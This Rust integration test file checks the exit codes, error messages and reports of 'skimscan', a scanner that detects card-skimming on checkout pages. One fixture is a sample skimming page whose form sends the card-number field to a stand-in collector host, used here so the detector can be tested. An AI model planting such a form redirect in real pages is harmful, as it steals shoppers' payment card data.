//! Exit codes (cli.md): 0 clean, 1 a finding at or above --fail-on, 2 usage/config/input
//! error with nothing scanned, 3 incomplete scan with nothing at or above --fail-on.

mod common;
use common::*;
use predicates::prelude::*;

fn page(dir: &std::path::Path, name: &str, body: &str) -> String {
    let p = dir.join(name);
    std::fs::write(&p, body).unwrap();
    p.to_string_lossy().into_owned()
}

const CLEAN_CHECKOUT: &str = r#"<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; form-action 'self'">
<title>Checkout</title></head><body>
<form action="/pay" method="post"><input name="cc_number" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form>
<script>document.querySelector('form').addEventListener('submit', function(){ document.body.className = 'busy'; });</script>
</body></html>"#;

const FORM_TO_OUTSIDE: &str = r#"<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; form-action 'self'"></head><body>
<form action="https://collector.badhost.example/p.php" method="post"><input name="cc_number" autocomplete="cc-number"></form>
</body></html>"#;

#[test]
fn clean_page_exits_0() {
    let dir = tempfile::tempdir().unwrap();
    let p = page(dir.path(), "checkout.html", CLEAN_CHECKOUT);
    let (code, report, _) = scan_json(&[&p]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["verdict"], "clean");
    assert_eq!(report["complete"], true);
    assert_eq!(report["pages"][0]["payment_form"], true);
}

#[test]
fn finding_at_or_above_fail_on_exits_1_and_never_reports_only() {
    let dir = tempfile::tempdir().unwrap();
    let p = page(dir.path(), "checkout.html", FORM_TO_OUTSIDE);
    let (code, report, _) = scan_json(&[&p]);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(report["verdict"], "malicious");
    assert!(rules_of(&report).contains(&"form-action-outside".to_string()));
    let (code, _, _) = scan_json(&["--fail-on", "never", &p]);
    assert_eq!(code, 0);
    // A low finding trips --fail-on low but not the default (high).
    let p2 = page(
        dir.path(),
        "nocsp.html",
        r#"<form action="/pay"><input name="cc_number" autocomplete="cc-number"></form>"#,
    );
    assert_eq!(scan_json(&[&p2]).0, 0);
    assert_eq!(scan_json(&["--fail-on", "low", &p2]).0, 1);
}

#[test]
fn usage_and_input_errors_exit_2_with_a_clear_message() {
    skimscan().assert().code(2);
    skimscan().args(["scan"]).assert().code(2);
    skimscan()
        .args(["scan", "--bogus", "x.html"])
        .assert()
        .code(2);
    skimscan()
        .args(["scan", "/definitely/not/here.html"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no such file"))
        .stdout(predicate::str::is_empty());
    skimscan()
        .args(["scan", "ftp://shop.example/"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unsupported URL scheme"));
    let dir = tempfile::tempdir().unwrap();
    let p = page(dir.path(), "c.html", CLEAN_CHECKOUT);
    skimscan()
        .args(["scan", "--fail-on", "severe", &p])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("severe"));
    let har = page(dir.path(), "capture.har", "{}");
    skimscan()
        .args(["scan", &har])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("HAR"));
}

#[test]
fn config_errors_name_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let p = page(dir.path(), "c.html", CLEAN_CHECKOUT);
    let cfg = dir.path().join("skimscan.toml");
    std::fs::write(&cfg, "depth = 1\nmax-pages = 3\nallow_hosts = [\"x\"]\n").unwrap();
    skimscan()
        .args(["scan", "--config", cfg.to_str().unwrap(), &p])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("skimscan.toml:3"));
    std::fs::write(&cfg, "fail-on = \"critical\"\ntimeout = -4\n").unwrap();
    skimscan()
        .args(["scan", "--config", cfg.to_str().unwrap(), &p])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("skimscan.toml:2"));
}

#[test]
fn a_bad_rule_file_exits_2_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("mine.toml"),
        "id = \"my-rule\"\ntitle = \"t\"\nseverity = \"high\"\nkind = \"page\"\ncolour = \"red\"\n",
    )
    .unwrap();
    let p = page(dir.path(), "c.html", CLEAN_CHECKOUT);
    skimscan()
        .args(["scan", "--rules", rules.to_str().unwrap(), &p])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("mine.toml:5"));
    skimscan()
        .args(["rules", "list", "--rules", rules.to_str().unwrap()])
        .assert()
        .code(2);
}

#[test]
fn unreachable_script_makes_the_scan_incomplete_exit_3() {
    let server = serve(vec![(
        "/checkout",
        html(
            r#"<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'; form-action 'self'"><script src="/missing.js"></script></head><body><form><input name="cc_number" autocomplete="cc-number"></form></body></html>"#,
        ),
    )]);
    let (code, report, _) = scan_json(&[
        "--resolve",
        &server.resolve("shop.test"),
        &server.url("shop.test", "/checkout"),
    ]);
    assert_eq!(code, 3, "{report:#}");
    assert_eq!(report["complete"], false);
    let errors = report["errors"].as_array().unwrap();
    assert!(
        errors
            .iter()
            .any(|e| e["url"].as_str().unwrap().ends_with("/missing.js")
                && e["message"].as_str().unwrap().contains("404")),
        "{errors:#?}"
    );
}

#[test]
fn output_option_writes_the_report_to_a_file() {
    let dir = tempfile::tempdir().unwrap();
    let p = page(dir.path(), "c.html", CLEAN_CHECKOUT);
    let out = dir.path().join("report.json");
    skimscan()
        .args(["scan", "--format", "json", "-o", out.to_str().unwrap(), &p])
        .assert()
        .code(0)
        .stdout(predicate::str::is_empty());
    let report: serde_json::Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    assert_eq!(report["schema_version"], 1);
}

#[test]
fn text_report_puts_the_verdict_first() {
    let dir = tempfile::tempdir().unwrap();
    let p = page(dir.path(), "checkout.html", FORM_TO_OUTSIDE);
    let out = skimscan().args(["scan", &p]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("verdict: MALICIOUS"), "{text}");
    assert!(text.contains("critical[form-action-outside]"), "{text}");
    assert!(
        text.contains("= hosts: collector.badhost.example"),
        "{text}"
    );
    assert!(!text.contains("\u{1b}["), "no colour without a terminal");
}

/// `scan --baseline`: the baseline's findings are judged with the scan's, once, when the report
/// is assembled. A checkout that is clean on its own gains a harmless inline script that the
/// reviewed inventory lacks: the baseline's high finding is the only one, and it alone must
/// make the verdict suspicious in every format and the exit code 1.
#[test]
fn a_baseline_finding_alone_sets_the_verdict_and_the_exit_code() {
    let site = tempfile::tempdir().unwrap();
    let p = page(site.path(), "checkout.html", CLEAN_CHECKOUT);
    let out = tempfile::tempdir().unwrap();
    let b = out.path().join("shop.json");
    let b = b.to_string_lossy();
    skimscan()
        .args(["baseline", "create", "--out", &b, &p])
        .assert()
        .code(0);
    let added = CLEAN_CHECKOUT.replace(
        "</body>",
        "<script>window.dataLayer = window.dataLayer || [];</script>\n</body>",
    );
    std::fs::write(&p, added).unwrap();

    // Without the baseline the changed page is still clean: nothing else can set the verdict.
    let (code, report, _) = scan_json(&[&p]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["verdict"], "clean", "{report:#}");

    let (code, report, _) = scan_json(&["--baseline", &b, &p]);
    assert_eq!(rules_of(&report), ["baseline-new-script"], "{report:#}");
    assert_eq!(report["findings"][0]["severity"], "high");
    assert_eq!(report["verdict"], "suspicious", "{report:#}");
    assert_eq!(report["complete"], true);
    assert_eq!(code, 1, "{report:#}");
    // The text report heads with the same verdict: one value, read by every formatter.
    skimscan()
        .args(["scan", "--baseline", &b, &p])
        .assert()
        .code(1)
        .stdout(predicate::str::starts_with("verdict: SUSPICIOUS"));
}
